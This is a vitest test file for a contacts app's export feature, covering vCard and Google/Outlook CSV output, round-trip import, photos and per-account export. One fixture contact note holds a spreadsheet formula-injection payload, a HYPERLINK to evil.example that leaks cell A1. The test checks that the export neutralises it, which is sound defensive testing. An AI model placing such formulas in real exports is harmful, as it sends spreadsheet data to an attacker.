// Export through the contract (transfer.export), and round trips: the hub exported as vCard 3.0,
// vCard 4.0, Google CSV and Outlook CSV, then imported into an empty Concord, gives the same
// contacts (compared by meaning, the hub's semantic hash), as far as each layout can carry them.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ContactFields } from '../../shared/model/contact.ts';
import { createContact, hubHash } from '../../electron/engine/hub/contacts.ts';
import { getContact } from '../../electron/engine/db/repos/contacts.ts';
import { exportToFile } from '../../electron/engine/transfer/index.ts';
import { generatedPeople } from '../bench/generate.ts';
import { person, startTestEngine } from '../support/engine.ts';
import type { TestEngine } from '../support/engine.ts';
import { startWorld } from '../support/sync-world.ts';

let t: TestEngine;
beforeEach(() => {
  t = startTestEngine();
});
afterEach(() => t.close());

const seed = (engine: TestEngine, fields: ContactFields) => createContact({ db: engine.engine.context.db, now: 1, runId: null }, fields).id;

function sample(): ContactFields[] {
  const people = generatedPeople(60, 7).map((f, i) => {
    // Distinct names, so no two generated people are (rightly) suggested as one.
    f.name.family = `${f.name.family}${i}`;
    f.formattedName = '';
    return f;
  });
  const ada = person({ given: 'Ada', family: 'Lovelace', email: 'ada@example.org', phone: '+44 20 7946 0018', org: 'Analytical Engines, Ltd.' });
  ada.note = '=HYPERLINK("http://evil.example?leak="&A1,"click me")\n- a list item\n@mention';
  ada.phones.push({ value: '0171 1234567', label: 'home', primary: false });
  ada.groups = ['Friends'];
  ada.addresses = [{ label: 'work', primary: false, poBox: '', extended: '', street: '1 Engine Row\nUnit 4', locality: 'London', region: '', postalCode: 'EC1', country: 'UK', countryCode: '' }];
  const zhang = person({ given: '伟', family: '张', email: 'zhang.wei@example.cn', phone: '+86 138 0013 8000' });
  zhang.birthday = { year: null, month: 4, day: 15 };
  return [...people, ada, zhang];
}

/** What a layout that has no "name as entered" column gives back: the name from its parts. */
function withoutDerivedFn(f: ContactFields): ContactFields {
  const joined = [f.name.prefix, f.name.given, f.name.middle, f.name.family, f.name.suffix].filter(Boolean).join(' ');
  return f.formattedName === joined ? { ...f, formattedName: '' } : f;
}

async function hashes(engine: TestEngine, project: (f: ContactFields) => ContactFields = (f) => f): Promise<string[]> {
  const page = await engine.client.call('contacts.list', { limit: 500 });
  return page.items.map((c) => hubHash(project(getContact(engine.engine.context.db, c.id)!.fields))).sort();
}

describe('export', () => {
  beforeEach(() => {
    for (const f of sample()) seed(t, f);
  });

  it('returns the text when no file is given: vCard, and CSV with a BOM and neutralised formulas', async () => {
    const vcf = await t.client.call('transfer.export', { format: 'vcf', vcardVersion: '4.0' });
    expect(vcf).toMatchObject({ format: 'vcf', contacts: 62, files: [] });
    expect(vcf.text!.match(/BEGIN:VCARD\r\nVERSION:4\.0\r\n/g)).toHaveLength(62);
    const csv = await t.client.call('transfer.export', { format: 'csv', layout: 'google' });
    expect(csv.text!.startsWith('\ufeffFirst Name,')).toBe(true);
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example?leak=""&A1,""click me"")\n- a list item\n@mention"`);
    expect(csv.text).toContain(',+86 138 0013 8000,');
    expect(csv.text).toContain(',0171 1234567,');
    // No cell of the file starts a formula unless it is a plain international number.
    const cells = csv.text!.split(/,|\r\n/).map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^\+[0-9 ()./-]*$/.test(c))).toEqual([]);
  });

  it('writes one file, a folder of cards, or contacts.csv in a folder', async () => {
    const file = join(t.dataDir, 'out', 'all.vcf');
    await expect(t.client.call('transfer.export', { format: 'vcf', out: file })).rejects.toMatchObject({ code: 'NOT_FOUND', message: expect.stringContaining('folder does not exist') });
    const folder = join(t.dataDir, 'cards') + '/';
    const cards = await t.client.call('transfer.export', { format: 'vcf', out: folder });
    expect(cards.files).toHaveLength(62);
    expect(readdirSync(folder)).toContain('Ada Lovelace.vcf');
    expect(readFileSync(join(folder, '张伟.vcf'), 'utf8')).toContain('N:张;伟;;;');
    const single = await t.client.call('transfer.export', { format: 'vcf', out: join(t.dataDir, 'all.vcf') });
    expect(single.files).toEqual([join(t.dataDir, 'all.vcf')]);
    const csv = await t.client.call('transfer.export', { format: 'csv', layout: 'outlook', out: join(t.dataDir, 'cards') });
    expect(csv.files).toEqual([join(t.dataDir, 'cards', 'contacts.csv')]);
    expect(readFileSync(csv.files[0]!, 'utf8').startsWith('\ufeffTitle,First Name,')).toBe(true);
  });

  it('round trips: export then import into an empty Concord gives the same contacts', async () => {
    const original = await hashes(t);
    const originalNoFn = await hashes(t, withoutDerivedFn);
    for (const [params, project] of [
      [{ format: 'vcf', vcardVersion: '3.0' }, (f: ContactFields) => f],
      [{ format: 'vcf', vcardVersion: '4.0' }, (f: ContactFields) => f],
      [{ format: 'csv', layout: 'google' }, withoutDerivedFn],
    ] as const) {
      const exported = await t.client.call('transfer.export', params);
      const other = startTestEngine();
      try {
        const result = await other.client.call('transfer.applyImport', { text: exported.text!, fileName: `x.${params.format}` });
        expect(result, JSON.stringify(params)).toMatchObject({ imported: 62, linked: 0, suggested: 0, skipped: 0, warnings: [] });
        expect(await hashes(other, project)).toEqual(project === withoutDerivedFn ? originalNoFn : original);
      } finally {
        other.close();
      }
    }
  });

  it('carries embedded photos from an imported card to an exported one', async () => {
    // A 1×1 PNG, as phones embed contact photos.
    const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    const card = `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Photo Person\r\nN:Person;Photo;;;\r\nEMAIL:photo@example.org\r\nPHOTO;ENCODING=b;TYPE=PNG:${png}\r\nEND:VCARD\r\n`;
    expect(await t.client.call('transfer.applyImport', { text: card, fileName: 'p.vcf' })).toMatchObject({ imported: 1 });
    const exported = await t.client.call('transfer.export', { format: 'vcf', vcardVersion: '3.0' });
    const written = exported.text!.split('END:VCARD').find((c) => c.includes('Photo Person'))!.replace(/\r\n /g, '');
    expect(written).toContain(png);
  });

  it('importing an export back into the same Concord links every card to its contact', async () => {
    const exported = await t.client.call('transfer.export', { format: 'vcf' });
    const again = await t.client.call('transfer.applyImport', { text: exported.text!, fileName: 'x.vcf' });
    expect(again).toMatchObject({ imported: 0, linked: 62, suggested: 0, warnings: [] });
    expect((await t.client.call('contacts.list', {})).total).toBe(62);
  });

  it('the CLI entry point writes the same as the contract', async () => {
    const out = join(t.dataDir, 'google.csv');
    const result = exportToFile(t.engine.context, { format: 'csv', out });
    expect(result).toMatchObject({ contacts: 62, files: [out] });
    const viaContract = await t.client.call('transfer.export', { format: 'csv' });
    expect(readFileSync(out, 'utf8')).toBe(viaContract.text);
  });
});

describe('export of one account', () => {
  it('exports only the contacts that account holds', async () => {
    t.close();
    const w = startWorld();
    t = w;
    const { source } = await w.addAccount('Work');
    source.createExternally('BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Only At Work\r\nN:Work;Only;;;\r\nEMAIL:work@example.org\r\nEND:VCARD\r\n');
    await w.client.call('sync.run', {});
    await w.addAccount('Home');
    seed(w, person({ given: 'Only', family: 'InHub', email: 'hub@example.org' }));
    const work = await w.client.call('transfer.export', { format: 'csv', layout: 'outlook', account: 'Work' });
    expect(work.contacts).toBe(1);
    expect(work.text).toContain('work@example.org');
    expect(work.text).not.toContain('hub@example.org');
    expect((await w.client.call('transfer.export', { format: 'vcf' })).contacts).toBe(2);
    await expect(w.client.call('transfer.export', { format: 'vcf', account: 'Nope' })).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });
});
